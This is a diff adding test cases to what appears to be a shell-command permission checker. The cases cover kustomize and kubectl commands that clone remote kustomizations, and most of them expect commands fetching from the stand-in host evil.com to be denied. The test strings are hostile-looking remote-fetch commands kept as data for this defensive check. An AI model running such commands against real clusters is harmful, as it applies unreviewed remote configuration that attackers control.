@@ -35,3 +35,29 @@ describe('git-lfs: its server, its remotes and the programs it runs', () => {
     expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
   });
 });
+
+describe('kustomize clones a remote kustomization before it reads a directory here', () => {
+  const DENY_GITHUB = { deny: ['Domain(github.com)'], allow: ['Shell(*)', 'Domain(*)'] };
+  it.each<[string, DecisionKind]>([
+    ['kubectl kustomize git@evil.com:o/r', 'deny'],
+    ['kubectl apply -k git@evil.com:o/r//overlays/prod', 'deny'],
+    ['kubectl kustomize ssh://evil.com/o/r', 'deny'],
+    ['kubectl apply -k git::https://evil.com/o/r', 'deny'],
+    ["kubectl delete --kustomize='https://evil.com/o/r?ref=v1'", 'deny'],
+    ['kustomize build git@evil.com:o/r', 'deny'],
+    ['kustomize build -o out.yaml git@evil.com:o/r', 'deny'],
+    ['kubectl apply -k overlays/prod', 'allow'],
+    ['kubectl kustomize', 'allow'],
+    ['kustomize build overlays/prod', 'allow'],
+    ['kustomize build evil.com/o/r', 'allow'], // (no scheme, not github.com, no user@: a directory here)
+  ])('%s -> %s', (line, expected) => {
+    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
+  });
+  it.each<[string, DecisionKind]>([
+    ['kubectl apply -k github.com/o/r/overlays/prod', 'deny'],
+    ['kustomize build gh:o/r', 'deny'],
+    ['kubectl kustomize overlays/prod', 'allow'],
+  ])('%s -> %s (github.com denied)', (line, expected) => {
+    expectDecision(DENY_GITHUB, 'shell', line, expected, REPO_LINUX);
+  });
+});
